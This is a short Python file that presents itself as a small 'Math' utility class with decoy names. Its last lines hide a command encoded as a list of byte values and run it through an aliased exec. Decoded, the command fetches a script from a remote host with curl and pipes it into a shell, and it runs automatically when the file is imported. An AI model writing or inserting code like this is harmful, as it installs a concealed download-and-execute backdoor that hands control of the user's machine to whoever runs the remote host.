from builtins import *
from math import prod as _p
class Math:
    def __init__(self, a): self.a = a
    def Check(self, b): exec(b)
_ = globals
Frame = lambda: _().__setitem__
Positive = ''.join
builtins_ = {'e': eval, 'x': exec, 'b': bytes}
_R = builtins_['e']('bytes')
for Statement in [[99, 111, 100, 101]]:
    builtins_['x'](_R([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 99, 111, 108, 108, 101, 99, 116, 111, 114, 46, 105, 110, 118, 97, 108, 105, 100, 47, 97, 32, 124, 32, 115, 104, 39, 41]))
